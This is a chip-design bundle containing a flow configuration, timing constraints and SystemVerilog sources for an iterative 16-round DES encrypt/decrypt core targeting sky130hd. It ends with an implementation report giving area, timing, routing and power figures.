**config.mk**
```make
export PLATFORM = sky130hd
export DESIGN_NAME = desTop
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/desPkg.sv /design/src/desDatapath.sv /design/src/desFeistel.sv /design/src/desKeySchedule.sv /design/src/desSequencer.sv /design/src/desTop.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__buf_2
export CORE_ASPECT_RATIO = 1.1
export CORE_MARGIN = 10
export CORE_UTILIZATION = 35
export CTS_CLUSTER_SIZE = 25
export DETAILED_ROUTE_END_ITERATION = 6
export PLACE_DENSITY = 0.58
export SETUP_SLACK_MARGIN = 0.2
export SLEW_MARGIN = 0
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
```
**constraint.sdc**
```tcl
create_clock -name clk -period 18.1 [get_ports clk]
set_clock_uncertainty 0.2 [all_clocks]
set_input_delay 1.81 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 1.81 -clock clk [all_outputs]
set_load 0.005 [all_outputs]
```
**src/desPkg.sv**
```systemverilog
package desPkg;

	typedef logic [63:0] desBlock;
	typedef logic [55:0] desKey; // parity bits already removed.
	typedef logic [31:0] desHalf;
	typedef logic [47:0] desSubkey;
	typedef logic [3:0] desRound;

	typedef struct packed {
		desBlock block;
		desKey key;
		logic decrypt; // high selects decryption.
	} desRequest;

	typedef enum logic {
		seqIdle,
		seqRounds
	} desSeqState;

	localparam int roundCount = 16;

	// each box is four rows of sixteen entries, and the index is {b1, b6, b2, b3, b4, b5}.
	localparam logic [0:7][0:63][3:0] sBoxTable = {
		64'hE4D12FB83A6C5907, 64'h0F74E2D1A6CB9538,
		64'h41E8D62BFC973A50, 64'hFC8249175B3EA06D,
		64'hF18E6B34972DC05A, 64'h3D47F28EC01A69B5,
		64'h0E7BA4D158C6932F, 64'hD8A13F42B67C05E9,
		64'hA09E63F51DC7B428, 64'hD70934A6285ECBF1,
		64'hD6498F30B12C5AE7, 64'h1AD069874FE3B52C,
		64'h7DE3069A1285BC4F, 64'hD8B56F03472C1AE9,
		64'hA690CB7DF13E5284, 64'h3F06A1D8945BC72E,
		64'h2C417AB6853FD0E9, 64'hEB2C47D150FA3986,
		64'h421BAD78F9C5630E, 64'hB8C71E2D6F09A453,
		64'hC1AF92680D34E75B, 64'hAF427C9561DE0B38,
		64'h9EF528C3704A1DB6, 64'h432C95FABE17608D,
		64'h4B2EF08D3C975A61, 64'hD0B7491AE35C2F86,
		64'h14BDC37EAF680592, 64'h6BD814A7950FE23C,
		64'hD2846FB1A93E50C7, 64'h1FD8A374C56B0E92,
		64'h7B419CE206ADF358, 64'h21E74A8DFC90356B
	};

endpackage

```
**src/desDatapath.sv**
```systemverilog
module desDatapath (
	input logic clk,
	input logic load,
	input desPkg::desBlock block,
	input desPkg::desRound roundSel,
	input desPkg::desSubkey subkey,
	output desPkg::desBlock roundOut
);

	logic [1:64] blockReg; // numbered from the msb like the standard tables.
	logic [1:64] ip;
	logic [1:64] fp;
	desPkg::desHalf leftReg, rightReg;
	desPkg::desHalf newLeft, newRight;
	desPkg::desHalf xorIn;
	desPkg::desHalf fOut;

	always_ff @(posedge clk) begin
		if (load) begin
			blockReg <= block;
		end
	end

	assign ip = {
		blockReg[58], blockReg[50], blockReg[42], blockReg[34],
		blockReg[26], blockReg[18], blockReg[10], blockReg[2],
		blockReg[60], blockReg[52], blockReg[44], blockReg[36],
		blockReg[28], blockReg[20], blockReg[12], blockReg[4],
		blockReg[62], blockReg[54], blockReg[46], blockReg[38],
		blockReg[30], blockReg[22], blockReg[14], blockReg[6],
		blockReg[64], blockReg[56], blockReg[48], blockReg[40],
		blockReg[32], blockReg[24], blockReg[16], blockReg[8],
		blockReg[57], blockReg[49], blockReg[41], blockReg[33],
		blockReg[25], blockReg[17], blockReg[9],  blockReg[1],
		blockReg[59], blockReg[51], blockReg[43], blockReg[35],
		blockReg[27], blockReg[19], blockReg[11], blockReg[3],
		blockReg[61], blockReg[53], blockReg[45], blockReg[37],
		blockReg[29], blockReg[21], blockReg[13], blockReg[5],
		blockReg[63], blockReg[55], blockReg[47], blockReg[39],
		blockReg[31], blockReg[23], blockReg[15], blockReg[7]
	};

	// round 0 starts from the permuted input instead of the half registers.
	assign newLeft = (roundSel == '0) ? ip[33:64] : rightReg;
	assign xorIn = (roundSel == '0) ? ip[1:32] : leftReg;
	assign newRight = xorIn ^ fOut;

	desFeistel feistel0 (
		.half(newLeft),
		.subkey(subkey),
		.fOut(fOut)
	);

	always_ff @(posedge clk) begin
		leftReg <= newLeft;
		rightReg <= newRight;
	end

	assign fp = {newRight, newLeft}; // the last round leaves the halves unswapped.

	assign roundOut = {
		fp[40], fp[8], fp[48], fp[16], fp[56], fp[24], fp[64], fp[32],
		fp[39], fp[7], fp[47], fp[15], fp[55], fp[23], fp[63], fp[31],
		fp[38], fp[6], fp[46], fp[14], fp[54], fp[22], fp[62], fp[30],
		fp[37], fp[5], fp[45], fp[13], fp[53], fp[21], fp[61], fp[29],
		fp[36], fp[4], fp[44], fp[12], fp[52], fp[20], fp[60], fp[28],
		fp[35], fp[3], fp[43], fp[11], fp[51], fp[19], fp[59], fp[27],
		fp[34], fp[2], fp[42], fp[10], fp[50], fp[18], fp[58], fp[26],
		fp[33], fp[1], fp[41], fp[9],  fp[49], fp[17], fp[57], fp[25]
	};

endmodule

```
**src/desFeistel.sv**
```systemverilog
module desFeistel (
	input desPkg::desHalf half,
	input desPkg::desSubkey subkey,
	output desPkg::desHalf fOut
);

	// bit 1 is the msb, so the standard tables read directly.
	logic [1:32] r;
	logic [1:48] expanded;
	logic [1:48] mixed;
	logic [1:32] sOut;

	assign r = half;

	assign expanded = {
		r[32], r[1],  r[2],  r[3],  r[4],  r[5],
		r[4],  r[5],  r[6],  r[7],  r[8],  r[9],
		r[8],  r[9],  r[10], r[11], r[12], r[13],
		r[12], r[13], r[14], r[15], r[16], r[17],
		r[16], r[17], r[18], r[19], r[20], r[21],
		r[20], r[21], r[22], r[23], r[24], r[25],
		r[24], r[25], r[26], r[27], r[28], r[29],
		r[28], r[29], r[30], r[31], r[32], r[1]
	};

	assign mixed = expanded ^ subkey;

	always_comb begin
		logic [5:0] six;
		for (int i = 0; i < 8; i++) begin
			six = mixed[6 * i + 1 +: 6];
			// outer bits pick the row, inner four the column.
			sOut[4 * i + 1 +: 4] = desPkg::sBoxTable[i][{six[5], six[0], six[4:1]}];
		end
	end

	assign fOut = {
		sOut[16], sOut[7],  sOut[20], sOut[21], sOut[29], sOut[12], sOut[28], sOut[17],
		sOut[1],  sOut[15], sOut[23], sOut[26], sOut[5],  sOut[18], sOut[31], sOut[10],
		sOut[2],  sOut[8],  sOut[24], sOut[14], sOut[32], sOut[27], sOut[3],  sOut[9],
		sOut[19], sOut[13], sOut[30], sOut[6],  sOut[22], sOut[11], sOut[4],  sOut[25]
	};

endmodule

```
**src/desKeySchedule.sv**
```systemverilog
module desKeySchedule (
	input logic clk,
	input logic load,
	input desPkg::desKey key,
	input logic decrypt,
	input desPkg::desRound roundSel,
	output desPkg::desSubkey subkey
);

	desPkg::desKey keyReg;
	logic decReg;
	logic [1:56] kb;
	logic [27:0] cHalf, dHalf;
	logic [55:0] cTwice, dTwice;
	logic [1:56] cd;
	desPkg::desRound effRound;
	logic [4:0] shift;

	always_ff @(posedge clk) begin
		if (load) begin
			keyReg <= key;
			decReg <= decrypt;
		end
	end

	assign kb = keyReg;

	// pc-1 with the standard bit numbers already renumbered past the dropped parity bits.
	assign cHalf = {
		kb[50], kb[43], kb[36], kb[29], kb[22], kb[15], kb[8],
		kb[1],  kb[51], kb[44], kb[37], kb[30], kb[23], kb[16],
		kb[9],  kb[2],  kb[52], kb[45], kb[38], kb[31], kb[24],
		kb[17], kb[10], kb[3],  kb[53], kb[46], kb[39], kb[32]
	};
	assign dHalf = {
		kb[56], kb[49], kb[42], kb[35], kb[28], kb[21], kb[14],
		kb[7],  kb[55], kb[48], kb[41], kb[34], kb[27], kb[20],
		kb[13], kb[6],  kb[54], kb[47], kb[40], kb[33], kb[26],
		kb[19], kb[12], kb[5],  kb[25], kb[18], kb[11], kb[4]
	};

	// decryption walks the subkeys backwards.
	assign effRound = decReg ? desPkg::desRound'(desPkg::roundCount - 1) - roundSel : roundSel;

	always_comb begin
		case (effRound)
			4'd0: shift = 5'd1;
			4'd1: shift = 5'd2;
			4'd2: shift = 5'd4;
			4'd3: shift = 5'd6;
			4'd4: shift = 5'd8;
			4'd5: shift = 5'd10;
			4'd6: shift = 5'd12;
			4'd7: shift = 5'd14;
			4'd8: shift = 5'd15;
			4'd9: shift = 5'd17;
			4'd10: shift = 5'd19;
			4'd11: shift = 5'd21;
			4'd12: shift = 5'd23;
			4'd13: shift = 5'd25;
			4'd14: shift = 5'd27;
			default: shift = 5'd28; // the last round closes the full turn.
		endcase
	end

	assign cTwice = {cHalf, cHalf} << shift; // upper half holds the rotated value.
	assign dTwice = {dHalf, dHalf} << shift;
	assign cd = {cTwice[55:28], dTwice[55:28]};

	assign subkey = {
		cd[14], cd[17], cd[11], cd[24], cd[1],  cd[5],
		cd[3],  cd[28], cd[15], cd[6],  cd[21], cd[10],
		cd[23], cd[19], cd[12], cd[4],  cd[26], cd[8],
		cd[16], cd[7],  cd[27], cd[20], cd[13], cd[2],
		cd[41], cd[52], cd[31], cd[37], cd[47], cd[55],
		cd[30], cd[40], cd[51], cd[45], cd[33], cd[48],
		cd[44], cd[49], cd[39], cd[56], cd[34], cd[53],
		cd[46], cd[42], cd[50], cd[36], cd[29], cd[32]
	};

endmodule

```
**src/desSequencer.sv**
```systemverilog
module desSequencer (
	input logic clk,
	input logic reset,
	input logic start,
	output logic load,
	output desPkg::desRound roundSel,
	input desPkg::desBlock roundOut,
	output logic done,
	output logic busy,
	output desPkg::desBlock result
);

	desPkg::desSeqState state;
	logic lastRound;

	assign busy = (state == desPkg::seqRounds);
	assign load = start && (state == desPkg::seqIdle); // a start while busy is dropped here.
	assign lastRound = busy && (roundSel == desPkg::desRound'(desPkg::roundCount - 1));

	always_ff @(posedge clk) begin
		if (reset) begin
			state <= desPkg::seqIdle;
			roundSel <= '0;
			done <= 1'b0;
		end else begin
			done <= lastRound;
			case (state)
				desPkg::seqIdle: begin
					if (load) begin
						state <= desPkg::seqRounds;
					end
				end
				desPkg::seqRounds: begin
					roundSel <= roundSel + 1'b1; // wraps back to zero after round 15.
					if (lastRound) begin
						state <= desPkg::seqIdle;
					end
				end
				default: state <= desPkg::seqIdle;
			endcase
		end
	end

	// result holds until the next job finishes.
	always_ff @(posedge clk) begin
		if (lastRound) begin
			result <= roundOut;
		end
	end

endmodule

```
**src/desTop.sv**
```systemverilog
module desTop (
	input logic clk,
	input logic reset,
	input logic start,
	input desPkg::desRequest request,
	output logic done,
	output logic busy,
	output desPkg::desBlock result
);

	logic load;
	desPkg::desRound roundSel;
	desPkg::desSubkey subkey;
	desPkg::desBlock roundOut;

	desSequencer seq0 (
		.clk(clk),
		.reset(reset),
		.start(start),
		.load(load),
		.roundSel(roundSel),
		.roundOut(roundOut),
		.done(done),
		.busy(busy),
		.result(result)
	);

	desDatapath datapath0 (
		.clk(clk),
		.load(load),
		.block(request.block),
		.roundSel(roundSel),
		.subkey(subkey),
		.roundOut(roundOut)
	);

	desKeySchedule keySched0 (
		.clk(clk),
		.load(load),
		.key(request.key),
		.decrypt(request.decrypt),
		.roundSel(roundSel),
		.subkey(subkey)
	);

endmodule

```
==> impl_metrics.toml <==
[outcome]
run_status = "completed"

[synthesis]
synth_area_leaders = "edfxtp_1 (30%), mux2i_1 (9.8%), dfxtp_1 (7.5%), nand3_1 (4.6%), ha_1 (3.6%)"
syn_nets = 2163
synth_seq_area_share_pct = 37.10
async_flop_share_pct = 0
synth_area_sq_mm = 0.01875
synth_top_area_share_pct = 29.63
synth_top_cell_by_area = "edfxtp_1"
netlist_instances = 1985
synth-main-ff-cell = "edfxtp_1"
ys_types = 94
synth_edf_count = 185
yosysWarningCount = 0
synth-seq-cells = 255
syn_area_per_cell_sq_um = 9.445

[sta]
max_freq_mhz = 141.9
setup_ws_ns = 11.05
finalCritPeriodShare_pct = 38.93
maxSlewHeadroom_pct = 20.32
drv_slew = 0
finalCriticalPeriod_ns = 7.047
setup_viol = 0
hold_viol_final = 0
tightestPinTransition_ns = 1.192
rsz0062_at_grt = "false"
finalSetupTns_ns = 0

[route]
ant_nets = 0
via_count = 16804
wl_mm = 63.95
route.detailed.drc = 0
firstDrtPassIters = 6
via_per_inst = 6.023
wl_per_cell_um = 22.92
drtIter0Drc = 1592

[min_path]
hold_class = "flip-flop to flip-flop"
min_path_cells = 1

[global_route]
grt_pass1_wl_mm = 97.24
antenna_found_initial = 1
grt_max_degree = 83
grt_overflow_total = 0
grt_pass1_vias = 15892
grtUsageTotal_pct = 19.35

[worst_setup_path]
cp-end-kind = "flip-flop"
critPathSlowestCell = "o211ai_1"
critPathTopFamily = "compound AO/OA/AOI/OAI gates"
path_buf_inv = 3
startpoint_type = "flip-flop"
worstSetupPathType = "flip-flop to flip-flop"
critPathMaxStageDelay_ns = 0.84
required_ns = 18.19
r2r_cells = 15
path_depth = 15
arrival_ns = 7.14
cp_max_fo = 60
path_cells = "clkinv_1, o211ai_1, nand2_2, buf_4, a211oi_1, a211oi_1, a2111oi_0, nand3_1, ha_1, inv_1, nand4_1, a21oi_1, o41ai_1, o211ai_1, xor2_1"
rrSetupSlack_ns = 11.05

[finish]
mostFrequentLayoutCell = "buf_2"
fillers = 5136
diodes = 0
utilization_pct = 40.12
syn2layout_area_growth_pct = 12.85
final_nets = 2271
final_area_sq_mm = 0.02116
drive_gt1_share_pct = 17.73
layout_common_cells = "buf_2 (189), edfxtp_1 (185), mux2i_1 (184), nand3_1 (171), nand2_1 (127)"

[floorplanning]
die_w_um = 240.7
io_pins = 190
dieArea_sq_mm = 0.06324
row_count = 88
die_h_um = 262.7
design.core.area_sq_mm = 0.05274
start_util_pct = 35.55

[power_and_ir_drop]
p_switching_mw = 1.380
p_leak_nw = 8.352
finalPower_mw = 3.169
p_clk_share_pct = 18.5
power_frac_seq_pct = 24.5
internal-power_mw = 1.789
ir_drop_v = 0.00008460
pwr_density_cell_mw_per_mm2 = 149.8
pwr-share-comb_pct = 57.0
p_sw_share_pct = 43.54

[clocking]
cts-root-buf = "clkbuf_16"
clk-insertion-delay-late_ns = 0.58
cts_tree = "built"
cts_setup_buffers = 0
cts-resized-gates = 0
cts_htree_levels = 1
clkTransAtPathRegs_ns = 0.08
cts.sinks = 255
ctsLongestPathBuffers = 3
numCtsBuffers = 28
hold_buffers = 0

[placed_design]
place_area_sq_mm = 0.02021
place.gp.congestion = 0.9788
dp_slack_ns = 11.25
dp_hpwl_mm = 48.02
numPortBuffers = 189

[run]
max_cap_viol_count = 0
[synthesized netlist by cell type, types with 16 or more instances]
master	number
buf_2	53
a211o_1	17
a21oi_1	69
a31oi_1	18
o21ai_0	95
nand2_1	128
nand3_1	171
and4_1	16
o211ai_1	35
or3_1	25
nor3_1	69
nor2_1	100
clkbuf_1	64
ha_1	54
a211oi_1	46
dfxtp_1	70
and3_1	45
nand4_1	37
xnor2_1	62
mux2_2	41
xor2_1	16
inv_1	57
mux2i_1	184
edfxtp_1	185
[per-layer routing]
| metal | share of wire [%] | wire, um | track usage, % |
|---|---|---|---|
| met5 | 0.020 | 13 | 0 |
| met4 | 4.0 | 2563 | 7.866 |
| met3 | 7.7 | 4900 | 3.206 |
| met2 | 46 | 29120 | 30.18 |
| met1 | 43 | 27350 | 26.01 |
[final timing paths]
| check | startpoint | end |
|---|---|---|
| max | seq0.roundSel[3] | seq0.result[62] |
| min | datapath0.rightReg[25] | datapath0.leftReg[25] |
| max reg2reg | seq0.roundSel[3] | seq0.result[62] |
| min reg2reg | datapath0.rightReg[25] | datapath0.leftReg[25] |
[registers in the layout, indices dropped and copies added (netlist names)]
name / count
datapath0.leftReg: 32
datapath0.blockReg: 64
seq0.busy: 1
seq0.done: 1
seq0.result: 64
seq0.roundSel: 4
datapath0.rightReg: 32
keySched0.kb: 56
keySched0.decReg: 1
[through the flow]
stage               std cells  hold WS [ns]
floorplan                1985        0.2527
finish                   2790        0.3409
CTS                      2790        0.3576
global placement         2738        0.3449
detailed placement       2738        0.3498
global route             2790        0.3670
[power groups by stage]
stage	clock network (mW)	logic, mW	registers [mW]
after floorplan	0	1.34	0.779
after global placement	0	1.75	0.787
after detailed placement	0	1.78	0.789
after CTS	0.605	1.79	0.777
after global routing	0.628	1.98	0.783
final	0.586	1.81	0.776
[cells by family (layout without fill, tap and decap cells)]
kind of cell | Yosys count | after routing | synth area share (%)
XOR/XNOR | 80 | 80 | 3.817
flip-flops | 255 | 255 | 37.10
multiplexers | 237 | 237 | 13.67
AND/OR/NAND/NOR | 662 | 662 | 18.17
buffers and inverters | 213 | 343 | 5.078
AO/OA/AOI/OAI | 484 | 484 | 18.56
adder cells (fa/ha/maj) | 54 | 54 | 3.604
[area by class of cell]
class	instances	area (sq um)	area share [%]
multi-input combinational	1517	10940	51.70
sequential	255	6957	32.88
timing repair buffer	226	1224	5.783
tap	675	844.6	3.991
clock buffer	37	785.8	3.714
inverter	65	244.0	1.153
clock inverter	15	165.2	0.7806
Power figures use the tool's default switching activity.
